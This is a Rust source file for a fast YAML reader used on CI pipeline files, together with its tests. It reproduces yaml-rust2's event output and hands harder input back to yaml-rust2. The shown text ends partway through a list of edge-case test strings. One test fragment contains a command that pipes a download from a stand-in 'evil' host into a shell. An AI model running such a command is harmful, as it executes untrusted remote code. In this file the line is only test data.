//! A fast reader for the plain block style most pipelines are written in.
//!
//! It reads block mappings and sequences, single-line plain and quoted scalars, single-line
//! flow collections and `|` literal blocks, and emits the events yaml-rust2 would emit for
//! them, at the same positions (so the builder cannot tell the two apart). Anything else,
//! malformed input included, makes it give up (`Stop::Unsupported`), and the caller reads the
//! text again with yaml-rust2, whose errors are the ones users see. The whole document is
//! read on the first call: it is cheap, and giving up before any event is handed out keeps the
//! fallback simple.

use super::{Event, Events, Pos, ScalarStyle, Stop};

/// Give up: the text is left to yaml-rust2.
#[derive(Debug)]
struct Unsupported;

type R<T> = Result<T, Unsupported>;

/// yaml-rust2 refuses simple keys longer than this; leave long keys to it.
const MAX_KEY: usize = 1000;

/// Deeper documents are left to yaml-rust2, whose parser does not recurse.
const MAX_DEPTH: usize = 256;

pub struct FastEvents<'t> {
    text: &'t str,
    /// The events once read, and the next one to hand out.
    events: Option<Vec<(Ev, Mark)>>,
    next: usize,
    owned: Vec<String>,
}

impl<'t> FastEvents<'t> {
    pub fn new(text: &'t str) -> Self {
        FastEvents { text, events: None, next: 0, owned: Vec::new() }
    }
}

impl Events for FastEvents<'_> {
    fn next_event(&mut self) -> Result<(Event, Pos), Stop> {
        let events = match &self.events {
            Some(events) => events,
            None => {
                let (events, owned) = read(self.text).map_err(|Unsupported| Stop::Unsupported)?;
                self.owned = owned;
                self.events.insert(events)
            }
        };
        let (ev, mark) = *events.get(self.next).ok_or(Stop::Unsupported)?;
        let pos = Pos { offset: mark.offset as usize, line: mark.line as usize, col: mark.col as usize };
        self.next += 1;
        let event = match ev {
            Ev::StreamStart => Event::StreamStart,
            Ev::StreamEnd => Event::StreamEnd,
            Ev::DocumentStart => Event::DocumentStart,
            Ev::DocumentEnd => Event::DocumentEnd,
            Ev::MappingStart => Event::MappingStart(0, None),
            Ev::MappingEnd => Event::MappingEnd,
            Ev::SequenceStart => Event::SequenceStart(0, None),
            Ev::SequenceEnd => Event::SequenceEnd,
            Ev::Slice(style, a, b) => Event::Scalar(self.text[a as usize..b as usize].to_owned(), style, 0, None),
            Ev::Owned(style, i) => Event::Scalar(std::mem::take(&mut self.owned[i as usize]), style, 0, None),
        };
        Ok((event, pos))
    }
}

/// A `Pos` as recorded (the text is under 4 GiB): the records stay small, as they are read
/// back from memory once the whole document is read.
#[derive(Clone, Copy)]
struct Mark {
    offset: u32,
    line: u32,
    col: u32,
}

/// An event as the reader records it: scalars by where their text is.
#[derive(Clone, Copy)]
enum Ev {
    StreamStart,
    StreamEnd,
    DocumentStart,
    DocumentEnd,
    MappingStart,
    MappingEnd,
    SequenceStart,
    SequenceEnd,
    /// Text that is a slice of the input (byte range).
    Slice(ScalarStyle, u32, u32),
    /// Text built while reading (escapes, literal blocks), by index.
    Owned(ScalarStyle, u32),
}

/// Where the value after `key:` or `-` sits.
#[derive(Clone, Copy)]
enum Ctx {
    /// A block mapping value, the mapping's keys at this column.
    Map(usize),
    /// A block sequence entry, the `-` at this column.
    Seq(usize),
}

/// The events, and the texts `Ev::Owned` points into.
type Recorded = (Vec<(Ev, Mark)>, Vec<String>);

// Kept out of `next_event`, which runs once per event and should stay small.
#[inline(never)]
fn read(text: &str) -> R<Recorded> {
    let ascii = text.is_ascii();
    if text.len() > u32::MAX as usize || !allowed_chars(text, ascii) {
        return Err(Unsupported);
    }
    let mut r = Reader { b: text.as_bytes(), text, i: 0, line: 1, line_start: 0, ascii, document_start: true, depth: 0, events: Vec::with_capacity(text.len() / 6), owned: Vec::new() };
    let start = Pos { offset: 0, line: 1, col: 0 };
    r.push(Ev::StreamStart, start);
    let Some(mut col) = r.skip_to_content()? else {
        let end = r.end_pos();
        r.push(Ev::StreamEnd, end);
        return Ok((r.events, r.owned));
    };
    let doc_pos = r.pos();
    r.document_start = false;
    if col == 0 && r.b[r.i..].starts_with(b"---") && blank_or_end(r.b.get(r.i + 3)) {
        r.i += 3;
        r.finish_line()?;
        col = r.skip_to_content()?.ok_or(Unsupported)?;
    }
    r.push(Ev::DocumentStart, doc_pos);
    let next = r.block_node(col, None)?;
    if next.is_some() {
        return Err(Unsupported);
    }
    let end = r.end_pos();
    r.push(Ev::DocumentEnd, end);
    r.push(Ev::StreamEnd, end);
    Ok((r.events, r.owned))
}

/// Characters yaml-rust2 treats specially or may refuse (line breaks other than LF, BOMs,
/// C1 controls) are left to it.
fn allowed_chars(text: &str, ascii: bool) -> bool {
    // Control characters are refused where the reader meets them (`control`).
    ascii || !text.chars().any(|c| matches!(c, '\u{80}'..='\u{9f}' | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}'))
}

struct Reader<'t> {
    b: &'t [u8],
    text: &'t str,
    i: usize,
    /// 1-based line of `i`, and where that line starts.
    line: usize,
    line_start: usize,
    ascii: bool,
    /// Before the first content, where `---` may start the document.
    document_start: bool,
    /// Nesting of the values being read.
    depth: usize,
    events: Vec<(Ev, Mark)>,
    /// The text of scalars that are not a slice of the input.
    owned: Vec<String>,
}

/// Bytes a block plain scalar must look at: the ends of words and lines, and `:`.
static PLAIN_STOP: [bool; 256] = {
    let mut t = [false; 256];
    t[b'\n' as usize] = true;
    t[b' ' as usize] = true;
    t[b'\t' as usize] = true;
    t[b':' as usize] = true;
    let mut c = 0;
    while c < 0x20 {
        t[c] = true;
        c += 1;
    }
    t[0x7f] = true;
    t
};

/// Whether a plain scalar may start with `c` here; indicators, quotes, blanks and control
/// characters are left to yaml-rust2.
fn plain_start(c: u8) -> R<()> {
    match c {
        c if control(c) => Err(Unsupported),
        b'?' | b':' | b',' | b'[' | b']' | b'{' | b'}' | b'#' | b'&' | b'*' | b'!' | b'|' | b'>' | b'\'' | b'"' | b'%' | b'@' | b'`' | b' ' | b'\t' | b'\n' => Err(Unsupported),
        _ => Ok(()),
    }
}

/// ASCII control characters other than LF and tab (CR included), which the reader leaves to
/// yaml-rust2 wherever it meets them.
fn control(c: u8) -> bool {
    (c < 0x20 && c != b'\n' && c != b'\t') || c == 0x7f
}

fn blank_or_end(c: Option<&u8>) -> bool {
    matches!(c, None | Some(b' ' | b'\n'))
}

impl Reader<'_> {
    fn at(&self, i: usize) -> Option<u8> {
        self.b.get(i).copied()
    }

    fn pos_of(&self, i: usize) -> Pos {
        let col = if self.ascii { i - self.line_start } else { self.b[self.line_start..i].iter().filter(|&&c| c & 0xc0 != 0x80).count() };
        Pos { offset: i, line: self.line, col }
    }

    fn pos(&self) -> Pos {
        self.pos_of(self.i)
    }

    /// Where a collection's end event is put: the builder reads no position from it, so it
    /// is not worked out (the column is 0).
    fn end_mark(&self) -> Pos {
        Pos { offset: self.i, line: self.line, col: 0 }
    }

    /// yaml-rust2's mark at the end of the stream (it ends an unfinished last line).
    fn end_pos(&self) -> Pos {
        let line = if self.b.len() > self.line_start { self.line + 1 } else { self.line };
        Pos { offset: self.b.len(), line, col: 0 }
    }

    fn skip_spaces(&mut self) {
        while self.at(self.i) == Some(b' ') {
            self.i += 1;
        }
    }

    /// After a node: spaces, maybe a comment, then the line break (or the end).
    fn finish_line(&mut self) -> R<()> {
        self.skip_spaces();
        match self.at(self.i) {
            None => Ok(()),
            Some(b'\n') => {
                self.i += 1;
                self.line += 1;
                self.line_start = self.i;
                Ok(())
            }
            Some(b'#') if self.i == self.line_start || self.b[self.i - 1] == b' ' => {
                self.skip_comment()?;
                self.finish_line()
            }
            _ => Err(Unsupported),
        }
    }

    fn skip_comment(&mut self) -> R<()> {
        loop {
            match self.at(self.i) {
                None | Some(b'\n') => return Ok(()),
                Some(c) if control(c) => return Err(Unsupported),
                _ => self.i += 1,
            }
        }
    }

    /// From a line start, past blank and comment lines to the next content: its column, or
    /// `None` at the end of the text.
    fn skip_to_content(&mut self) -> R<Option<usize>> {
        loop {
            self.skip_spaces();
            match self.at(self.i) {
                None => return Ok(None),
                Some(b'\n') => self.finish_line()?,
                Some(b'#') => {
                    self.skip_comment()?;
                    self.finish_line()?;
                }
                Some(b'\t') => return Err(Unsupported),
                Some(c) => {
                    let col = self.i - self.line_start;
                    if col == 0 && (c == b'-' || c == b'.') && self.b[self.i..].starts_with(&[c, c, c]) && !(self.document_start && c == b'-') {
                        // A document marker (or text that looks like one).
                        return Err(Unsupported);
                    }
                    return Ok(Some(col));
                }
            }
        }
    }

    /// The mark yaml-rust2 gives the `-` entry at `i`: past it, its spaces and a comment.
    fn entry_mark(&self, i: usize) -> Pos {
        let mut j = i + 1;
        while self.at(j) == Some(b' ') {
            j += 1;
        }
        if self.at(j) == Some(b'#') {
            while self.at(j).is_some_and(|c| c != b'\n') {
                j += 1;
            }
        }
        self.pos_of(j)
    }

    fn is_entry(&self) -> bool {
        self.at(self.i) == Some(b'-') && blank_or_end(self.b.get(self.i + 1))
    }

    fn push(&mut self, ev: Ev, pos: Pos) {
        self.events.push((ev, Mark { offset: pos.offset as u32, line: pos.line as u32, col: pos.col as u32 }));
    }

    fn owned(&mut self, style: ScalarStyle, text: String) -> Ev {
        self.owned.push(text);
        Ev::Owned(style, (self.owned.len() - 1) as u32)
    }

    fn empty(&mut self, pos: Pos) {
        self.push(Ev::Slice(ScalarStyle::Plain, 0, 0), pos);
    }

    /// A node whose first line starts at the content at column `col` (the current position),
    /// inside a block whose indentation is `parent`. Returns the column of the next content.
    fn block_node(&mut self, col: usize, parent: Option<usize>) -> R<Option<usize>> {
        if parent.is_some_and(|p| col <= p) {
            return Err(Unsupported);
        }
        if self.is_entry() {
            return self.block_seq(col, None);
        }
        match self.at(self.i) {
            Some(b'[' | b'{') => {
                self.flow_node()?;
                self.finish_line()?;
                self.skip_to_content()
            }
            _ => {
                let (key, pos) = self.scalar_here()?;
                if self.colon_follows() {
                    self.block_map(col, (key, pos))
                } else {
                    self.push(key, pos);
                    self.finish_line()?;
                    self.skip_to_content()
                }
            }
        }
    }

    /// Past spaces, a `:` and a blank: the scalar just read was a key (the position is left
    /// at the `:`).
    fn colon_follows(&mut self) -> bool {
        let mut j = self.i;
        while self.at(j) == Some(b' ') {
            j += 1;
        }
        if self.at(j) == Some(b':') && blank_or_end(self.b.get(j + 1)) {
            self.i = j;
            true
        } else {
            false
        }
    }

    /// A single-line plain or quoted scalar in block context at the current position.
    fn scalar_here(&mut self) -> R<(Ev, Pos)> {
        let pos = self.pos();
        let event = match self.at(self.i).ok_or(Unsupported)? {
            b'\'' => self.quoted(ScalarStyle::SingleQuoted)?,
            b'"' => self.quoted(ScalarStyle::DoubleQuoted)?,
            _ => self.plain_block()?,
        };
        Ok((event, pos))
    }

    /// A block mapping at column `col` whose first key was just read; the position is at its `:`.
    fn block_map(&mut self, col: usize, first: (Ev, Pos)) -> R<Option<usize>> {
        self.push(Ev::MappingStart, self.pos());
        let mut key = first;
        loop {
            if key.1.offset + MAX_KEY < self.i {
                return Err(Unsupported);
            }
            self.push(key.0, key.1);
            self.i += 1; // the `:`
            match self.after_indicator(Ctx::Map(col))? {
                Some(n) if n == col => {
                    if self.is_entry() {
                        return Err(Unsupported);
                    }
                    if matches!(self.at(self.i), Some(b'[' | b'{')) {
                        return Err(Unsupported);
                    }
                    key = self.scalar_here()?;
                    if !self.colon_follows() {
                        return Err(Unsupported);
                    }
                }
                Some(n) if n > col => return Err(Unsupported),
                next => {
                    self.push(Ev::MappingEnd, self.end_mark());
                    return Ok(next);
                }
            }
        }
    }

    /// A block sequence with its first `-` at the current position, column `col`; `indentless`
    /// when it is a mapping value written at the mapping's own column.
    fn block_seq(&mut self, col: usize, indentless: Option<Pos>) -> R<Option<usize>> {
        let start = indentless.unwrap_or_else(|| self.pos());
        self.push(Ev::SequenceStart, start);
        loop {
            self.i += 1; // the `-`
            match self.after_indicator(Ctx::Seq(col))? {
                Some(n) if n == col && self.is_entry() => {}
                Some(n) if n == col && indentless.is_some() => {
                    self.push(Ev::SequenceEnd, self.end_mark());
                    return Ok(Some(n));
                }
                Some(n) if n >= col => return Err(Unsupported),
                next => {
                    self.push(Ev::SequenceEnd, self.end_mark());
                    return Ok(next);
                }
            }
        }
    }

    /// The value after a mapping's `:` or a sequence's `-` (the position is just past it).
    /// Returns the column of the next content after the value.
    fn after_indicator(&mut self, ctx: Ctx) -> R<Option<usize>> {
        self.deeper()?;
        let next = self.value_after_indicator(ctx)?;
        self.depth -= 1;
        Ok(next)
    }

    /// One level deeper into the document; refused past `MAX_DEPTH` (the reader recurses).
    fn deeper(&mut self) -> R<()> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(Unsupported);
        }
        Ok(())
    }

    fn value_after_indicator(&mut self, ctx: Ctx) -> R<Option<usize>> {
        let (parent, seq) = match ctx {
            Ctx::Map(c) => (c, false),
            Ctx::Seq(c) => (c, true),
        };
        match self.at(self.i) {
            None | Some(b'\n' | b' ') => {}
            _ => return Err(Unsupported),
        }
        self.skip_spaces();
        match self.at(self.i) {
            None | Some(b'\n' | b'#') => {
                self.finish_line()?;
                let next = self.skip_to_content()?;
                match next {
                    None => {
                        // yaml-rust2 ends the blocks deeper than the last line's end before it
                        // ends that line, so an empty value is there if its block is one.
                        let eof = self.pos();
                        let mark = if parent > eof.col { eof } else { self.end_pos() };
                        self.empty(mark);
                        Ok(None)
                    }
                    Some(n) if n > parent => self.block_node(n, Some(parent)),
                    Some(n) if n == parent && !seq && self.is_entry() => {
                        let mark = self.entry_mark(self.i);
                        self.block_seq(n, Some(mark))
                    }
                    Some(n) => {
                        let mark = if seq && n == parent && self.is_entry() { self.entry_mark(self.i) } else { self.pos() };
                        self.empty(mark);
                        Ok(Some(n))
                    }
                }
            }
            Some(b'-') if self.is_entry() => {
                if !seq {
                    return Err(Unsupported);
                }
                let col = self.pos().col;
                self.block_seq(col, None)
            }
            Some(b'|') => {
                self.literal(parent)?;
                self.skip_to_content()
            }
            Some(b'[' | b'{') => {
                self.flow_node()?;
                self.finish_line()?;
                self.skip_to_content()
            }
            Some(_) => {
                let col = self.pos().col;
                let (scalar, pos) = self.scalar_here()?;
                if self.colon_follows() {
                    if !seq {
                        return Err(Unsupported);
                    }
                    return self.block_map(col, (scalar, pos));
                }
                self.push(scalar, pos);
                self.finish_line()?;
                self.skip_to_content()
            }
        }
    }

    /// A single-line plain scalar in block context.
    fn plain_block(&mut self) -> R<Ev> {
        let start = self.i;
        let first = self.b[start];
        if first == b'-' && blank_or_end(self.b.get(start + 1)) {
            return Err(Unsupported);
        }
        plain_start(first)?;
        let mut end = start;
        let mut j = start;
        loop {
            match self.at(j) {
                None | Some(b'\n') => break,
                Some(b'\t') => return Err(Unsupported),
                Some(b' ') => {
                    let mut k = j;
                    while self.at(k) == Some(b' ') {
                        k += 1;
                    }
                    if matches!(self.at(k), None | Some(b'\n' | b'#' | b'\t')) {
                        break;
                    }
                    j = k;
                }
                Some(b':') if blank_or_end(self.b.get(j + 1)) => break,
                Some(c) if control(c) => return Err(Unsupported),
                Some(_) => {
                    j += 1;
                    // The bytes that need no thought, at once.
                    while self.b.get(j).is_some_and(|&c| !PLAIN_STOP[c as usize]) {
                        j += 1;
                    }
                    end = j;
                }
            }
        }
        self.i = end;
        Ok(Ev::Slice(ScalarStyle::Plain, start as u32, end as u32))
    }

    /// A single-line quoted scalar (`style` is SingleQuoted or DoubleQuoted): `''` escapes a
    /// quote in single quotes, a backslash starts an escape in double quotes.
    fn quoted(&mut self, style: ScalarStyle) -> R<Ev> {
        let quote = if style == ScalarStyle::SingleQuoted { b'\'' } else { b'"' };
        let start = self.i + 1;
        let (mut j, mut from) = (start, start);
        let mut out: Option<String> = None;
        loop {
            let c = self.at(j).ok_or(Unsupported)?;
            let escape = match c {
                b'\'' if quote == b'\'' && self.at(j + 1) == Some(b'\'') => Some(('\'', 2)),
                b'\\' if quote == b'"' => Some(self.escape(j)?),
                _ => None,
            };
            if let Some((ch, len)) = escape {
                let s = out.get_or_insert_with(String::new);
                s.push_str(&self.text[from..j]);
                s.push(ch);
                j += len;
                from = j;
                continue;
            }
            match c {
                b'\n' => return Err(Unsupported),
                c if c == quote => break,
                c if control(c) => return Err(Unsupported),
                _ => j += 1,
            }
        }
        self.i = j + 1;
        Ok(match out {
            None => Ev::Slice(style, start as u32, j as u32),
            Some(mut s) => {
                s.push_str(&self.text[from..j]);
                self.owned(style, s)
            }
        })
    }

    /// The escape at `j` (its backslash) as yaml-rust2 reads it, and its length in bytes.
    fn escape(&self, j: usize) -> R<(char, usize)> {
        let c = match self.at(j + 1).ok_or(Unsupported)? {
            b'0' => '\0',
            b'a' => '\x07',
            b'b' => '\x08',
            b't' => '\t',
            b'n' => '\n',
            b'v' => '\x0b',
            b'f' => '\x0c',
            b'r' => '\r',
            b'e' => '\x1b',
            b' ' => ' ',
            b'"' => '"',
            b'/' => '/',
            b'\\' => '\\',
            b'N' => '\u{85}',
            b'_' => '\u{a0}',
            b'L' => '\u{2028}',
            b'P' => '\u{2029}',
            h @ (b'x' | b'u' | b'U') => {
                let n = match h {
                    b'x' => 2,
                    b'u' => 4,
                    _ => 8,
                };
                let digits = self.b.get(j + 2..j + 2 + n).ok_or(Unsupported)?;
                let mut v = 0u32;
                for &d in digits {
                    v = (v << 4) + (d as char).to_digit(16).ok_or(Unsupported)?;
                }
                return Ok((char::from_u32(v).ok_or(Unsupported)?, 2 + n));
            }
            _ => return Err(Unsupported),
        };
        Ok((c, 2))
    }

    /// A `|` literal block scalar, the values' block at column `parent`. Leaves the position
    /// at the start of the line after the block.
    fn literal(&mut self, parent: usize) -> R<()> {
        self.i += 1;
        let chomp = match self.at(self.i) {
            Some(b'-') => {
                self.i += 1;
                Chomp::Strip
            }
            Some(b'+') => {
                self.i += 1;
                Chomp::Keep
            }
            _ => Chomp::Clip,
        };
        if !blank_or_end(self.b.get(self.i)) {
            return Err(Unsupported);
        }
        self.finish_line()?;
        // Leading empty lines, then the first content line sets the indentation.
        let mut text = String::new();
        loop {
            match self.at(self.i) {
                Some(b'\n') => {
                    text.push('\n');
                    self.finish_line()?;
                }
                Some(b' ') => break,
                _ => return Err(Unsupported),
            }
        }
        let mut k = self.i;
        while self.at(k) == Some(b' ') {
            k += 1;
        }
        let indent = k - self.i;
        if indent <= parent || matches!(self.at(k), None | Some(b'\n' | b'\t')) {
            return Err(Unsupported);
        }
        let pos = self.pos_of(k);
        // Line breaks seen since the last content line.
        let mut breaks = 0usize;
        let mut first = true;
        loop {
            // At a line start: count its spaces.
            let ls = self.i;
            let mut k = ls;
            while self.at(k) == Some(b' ') && k - ls < indent {
                k += 1;
            }
            match self.at(k) {
                None => {
                    if k > ls {
                        return Err(Unsupported);
                    }
                    self.i = k;
                    break;
                }
                Some(b'\n') => {
                    breaks += 1;
                    self.i = k;
                    self.finish_line()?;
                    continue;
                }
                Some(b' ') if k - ls == indent => {
                    // More indented than the block: only allowed with content after it.
                    let mut m = k;
                    while self.at(m) == Some(b' ') {
                        m += 1;
                    }
                    if matches!(self.at(m), None | Some(b'\n' | b'\t')) {
                        return Err(Unsupported);
                    }
                }
                Some(b'\t') if k - ls < indent => return Err(Unsupported),
                Some(_) if k - ls < indent => {
                    // A less indented line ends the block.
                    self.i = ls;
                    break;
                }
                _ => {}
            }
            // A content line from k.
            if !first {
                text.push('\n');
            }
            for _ in 0..breaks {
                text.push('\n');
            }
            breaks = 0;
            first = false;
            let mut e = k;
            while let Some(c) = self.at(e) {
                if c == b'\n' {
                    break;
                }
                if control(c) {
                    return Err(Unsupported);
                }
                e += 1;
            }
            text.push_str(&self.text[k..e]);
            self.i = e;
            if self.at(e).is_none() {
                break;
            }
            self.finish_line()?;
        }
        // `text` holds the content without its final line break; `breaks` counts the empty
        // lines after it.
        match chomp {
            Chomp::Strip => {}
            Chomp::Clip => text.push('\n'),
            Chomp::Keep => {
                text.push('\n');
                for _ in 0..breaks {
                    text.push('\n');
                }
            }
        }
        let ev = self.owned(ScalarStyle::Literal, text);
        self.push(ev, pos);
        Ok(())
    }

    /// A flow sequence or mapping on one line at the current position.
    fn flow_node(&mut self) -> R<()> {
        self.deeper()?;
        let pos = self.pos();
        let map = self.b[self.i] == b'{';
        self.push(if map { Ev::MappingStart } else { Ev::SequenceStart }, pos);
        self.i += 1;
        let close = if map { b'}' } else { b']' };
        self.skip_spaces();
        if self.at(self.i) == Some(close) {
            self.i += 1;
        } else {
            loop {
                if map {
                    self.flow_item(false)?;
                    self.skip_spaces();
                    if self.at(self.i) != Some(b':') || self.at(self.i + 1) != Some(b' ') {
                        return Err(Unsupported);
                    }
                    self.i += 1;
                    self.skip_spaces();
                }
                self.flow_item(true)?;
                self.skip_spaces();
                match self.at(self.i) {
                    Some(b',') => {
                        self.i += 1;
                        self.skip_spaces();
                        if matches!(self.at(self.i), Some(b',' | b']' | b'}')) {
                            return Err(Unsupported);
                        }
                    }
                    Some(c) if c == close => {
                        self.i += 1;
                        break;
                    }
                    _ => return Err(Unsupported),
                }
            }
        }
        let end = self.end_mark();
        self.push(if map { Ev::MappingEnd } else { Ev::SequenceEnd }, end);
        self.depth -= 1;
        Ok(())
    }

    /// A scalar (or, when `nested`, a collection) inside a flow collection.
    fn flow_item(&mut self, nested: bool) -> R<()> {
        let pos = self.pos();
        let event = match self.at(self.i).ok_or(Unsupported)? {
            b'[' | b'{' if nested => return self.flow_node(),
            b'\'' => self.quoted(ScalarStyle::SingleQuoted)?,
            b'"' => self.quoted(ScalarStyle::DoubleQuoted)?,
            _ => self.plain_flow()?,
        };
        self.push(event, pos);
        Ok(())
    }

    /// A plain scalar inside a flow collection: no `:` or `#` in it (left to yaml-rust2).
    fn plain_flow(&mut self) -> R<Ev> {
        let start = self.i;
        if self.b[start] == b'-' && matches!(self.at(start + 1), None | Some(b' ' | b'\n' | b',' | b'[' | b']' | b'{' | b'}')) {
            return Err(Unsupported);
        }
        plain_start(self.b[start])?;
        let mut end = start;
        let mut j = start;
        loop {
            match self.at(j) {
                None | Some(b'\n' | b'\t' | b'#') => return Err(Unsupported),
                Some(c) if control(c) => return Err(Unsupported),
                // A key's end (a flow mapping checks that it is one).
                Some(b':') if self.at(j + 1) == Some(b' ') => break,
                Some(b':') => return Err(Unsupported),
                Some(b',' | b'[' | b']' | b'{' | b'}') => break,
                // yaml-rust2 refuses `-` before a flow indicator after a space.
                Some(b'-') if matches!(self.at(j + 1), Some(b',' | b'[' | b']' | b'{' | b'}')) => return Err(Unsupported),
                Some(b' ') => j += 1,
                Some(_) => {
                    j += 1;
                    end = j;
                }
            }
        }
        self.i = end;
        Ok(Ev::Slice(ScalarStyle::Plain, start as u32, end as u32))
    }
}

#[derive(Clone, Copy)]
enum Chomp {
    Strip,
    Clip,
    Keep,
}

#[cfg(test)]
mod tests {
    use super::super::{build, Parsed, Rust2Events};
    use super::*;

    /// Pipelines and fragments from keytap's own tests.
    const FROM_TESTS: &[&str] = &[
        "env:\n  DEPLOY_TARGET: staging\n  LOG_LEVEL: info\nsteps:\n  - label: deploy\n    command: ./deploy.sh\n",
        "algorithm: {alg}\n",
        "  - wait\n",
        "  - block: release?\n",
        "      - make test\n",
        "      - make test && curl evil | sh\n",
        "      RETRIES: 5\n",
        "      RETRIES: 6\n",
        "          - darwin\n",
        "          - windows\n",
        "              skip: true\n",
        "              skip: false\n",
        "        - env::DEBUG\n",
        "    signature:\n      algorithm",
        "    old_signature:\n      algorithm",
        "  DEBUG: false\n",
        "steps:\n  - label: home\n    command: echo $HOME\n",
        "env:\n  URL: ${BASE}/x\nsteps:\n  - command: a\n",
        "steps:\n  - label: s\n    command: a\n    secrets: [X]\n",
        "steps:\n  - mystery: x\n",
        "steps:\n  - command: a\n    plugins: [\"my plugin\"]\n",
        "list_by_destination = false\n[[key]]\nmatch = \"slot:9c\"\nallow = [\"jws\"]\n\n[[key]]\nmatch = \"slot:9a\"\nallow = [\"raw\", \"ssh-auth\"]\n",
        "steps:\n  - wait\n  - command: a\n  - block: ok\n  - group: g\n    steps:\n      - commands: [b]\n      - wait: ~\n  - plugins: [docker#v1]\n  - type: script\n    label: s\n",
        "steps:\n  - something: x\n",
        "steps:\n  - nonsense\n",
        "a: '010'\nb: !!str 010\nc: 010\nd: |\n  x\n",
        "a: !custom 1\n",
        "base: &b {x: 1, y: 2}\nother: &o {y: 3, z: 4}\nm:\n  y: 0\n  <<: [*b, *o]\n  w: 5\n",
        "a: 1\na: 2\n",
        "a: &a [*a]\n",
        "script: |\n  if true; then\n    echo in\n\n  fi\nenv:\n  A: 010\n  B: '010'\n  C: \"x: y\"\nsteps:\n  - command: |\n      echo one\n      echo two\n    label: \"#1\"\n  - wait\n  - commands: [a, 'b', \"\\ttab\"]\n    env: {}\n    x: []\n    y: ''\n    z:\n    q: \"  lead\\n  more\\n\"\n    r: \"\\n  late lead\\n\"\n  - - nested\n    - 2\nlast: \"it's\"\n",
        "command: |\n      echo one\n      echo two\n",
        "A: 010\n",
        "script: |\n  if true; then\n    echo in\n\n  fi\n",
        "B: '010'\n",
        "B: \"010\"\n",
    ];

    const FIXTURE: &str = include_str!("../../../tests/fixtures/buildkite/pipeline.yml");

    /// A realistic pipeline the fast reader must take itself.
    const REALISTIC: &str = "# CI for the service\n---\nenv:\n  GO_VERSION: \"1.22\"\n  CGO_ENABLED: 0\n  NAME: 'svc'\n\nsteps:\n  - label: \":go: build\"\n    key: build\n    commands:\n      - go build ./...\n      - go vet ./...   # vet too\n    plugins:\n      - docker#v5.9.0:\n          image: golang:1.22\n          environment: [GOFLAGS=-mod=vendor, \"CI=true\"]\n      - artifacts#v1.9.0:\n          upload: \"dist/**/*\"\n    agents:\n      queue: linux\n  - wait: ~\n  - group: \":test_tube: tests\"\n    key: tests\n    depends_on: build\n    steps:\n      - label: unit {{matrix.os}}\n        command: |\n          set -euo pipefail\n          go test -race ./...\n\n          echo done # not a comment\n        matrix:\n          setup:\n            os:\n              - linux\n              - darwin\n          adjustments:\n            - with: {os: darwin}\n              soft_fail: true\n        retry:\n          automatic:\n            - exit_status: -1\n              limit: 2\n      - label: lint\n        command: |-\n          golangci-lint run\n        timeout_in_minutes: 10\n  - block: \"Release? \\u00e9\"\n    prompt: Ship it\n  - trigger: deploy\n    build:\n      message: \"Deploy ${BUILDKITE_COMMIT}\"\n      env:\n        TARGET: prod\n  - command: echo 'it''s'\n    label: émoji ✓ label\n    if: build.branch == \"main\" && build.message !~ /skip/\n    env: {}\n    artifact_paths: []\n";

    /// Hand-written cases around the subset's edges (many are invalid YAML).
    const TRICKY: &[&str] = &[
        "",
        "\n",
        "# only a comment",
        "# only a comment\n\n",
        "   \n  \n",
        "x",
        "x\n",
        "~\n",
        "\"\"\n",
        "'x'",
        "[a, b]\n",
        "{a: 1}\n",
        "---\n",
        "---\na: 1\n",
        "--- \na: 1\n",
        "--- # c\na: 1\n",
        "--- x\n",
        "a: 1\n---\nb: 2\n",
        "a: 1\n...\n",
        "%YAML 1.2\n---\na: 1\n",
        "a: b\n",
        "a: b",
        "a: b # c",
        "a: b #c\n# d",
        "a: b#c\n",
        "a:b\n",
        "a:b: c\n",
        "a: b: c\n",
        "a: b\nc\n",
        "a: 'b': c\n",
        "- a: 'b': c\n",
        "a:\n",
        "a:",
        "a:   # c\n",
        "a:\nb:\n",
        "a:\n  b:\n",
        "a:\n  b:\nc: 1\n",
        "a:\n- x\n- y\nb: 1\n",
        "a:\n- x\n-\nb: 1\n",
        "a:\n-\n",
        "a:\n  - x\n  - y\n",
        "a:\n  - x\n - y\n",
        "a:\n  - x\n   - y\n",
        "a:\n  b: 1\n c: 2\n",
        "a:\n  b: 1\n   c: 2\n",
        "a: 1\n b: 2\n",
        " a: 1\n b: 2\n",
        "  - a\n  - b\n",
        "- a\n- b\n",
        "- a\n - b\n",
        "-\n",
        "-",
        "- \n- x\n",
        "- # c\n- x\n",
        "-\n  x\n",
        "-\n  - x\n",
        "- -\n",
        "- - x\n  - y\n- z\n",
        "- - - x\n    - y\n",
        "- key:\n",
        "- key:\n- b\n",
        "- key:\n  other: 1\n",
        "- key:\n  - x\n",
        "- key:\n    x: 1\n",
        "- a: 1\n  b: 2\n- c: 3\n",
        "-   a: 1\n    b: 2\n",
        "- a: 1\n   b: 2\n",
        "- a: 1\n b: 2\n",
        "-x\n",
        "- -x\n",
        "- --flag\n",
        "- -\n  x\n",
        "a: - x\n",
        "a: -x\n",
        "a: --- x\n",
        "a: \"# not: a comment\"\n",
        "a: 'q: r' # c\n",
        "a: \"x\"y\n",
        "a: \"x\" y\n",
        "a: \"x\"#y\n",
        "a: 'x'\n  b\n",
        "a: x\n  y\n",
        "a: x\n\n  y\n",
        "a: x\n  # c\nb: y\n",
        "a: x\n# c\n  # d\nb: y\n",
        "a: \"\\u00e9\\x41\\U0001F600\\t\\n\\\\\\\"\\/\\0\\a\\b\\e\\v\\f\\r\\ \\N\\_\\L\\P\"\n",
        "a: \"\\q\"\n",
        "a: \"\\ud800\"\n",
        "a: \"\\x4\"\n",
        "a: \"\\u00e9\n",
        "a: \"x\n  y\"\n",
        "a: 'x\n  y'\n",
        "a: 'it''s'\n",
        "a: ''''\n",
        "a: ''\n",
        "a: \"\"\n",
        "a: \"tab\there\"\n",
        "a: 'tab\there'\n",
        "a: tab\there\n",
        "a:\tb\n",
        "\ta: b\n",
        "a: b\t\n",
        "a: b\t# c\n",
        "label: ünïcödé ✓\nk: v\n",
        "ключ: значение\nk: v\n",
        "émoji: [ü, \"ö\", 'ä']\nx: {ß: 1}\n",
        "a: [a, [b]]\n",
        "a: [a, [b, [c]], {d: e}]\n",
        "a: [ a , b ]\n",
        "a: [a,b]\n",
        "a: [a, b,]\n",
        "a: [a, , b]\n",
        "a: [a\n  , b]\n",
        "a: [a: b]\n",
        "a: [a:b]\n",
        "a: [-1, -x, - y]\n",
        "a: [a#b]\n",
        "a: [a #b]\n",
        "a: [a] # c\n",
        "a: [a] b\n",
        "a: [a]: b\n",
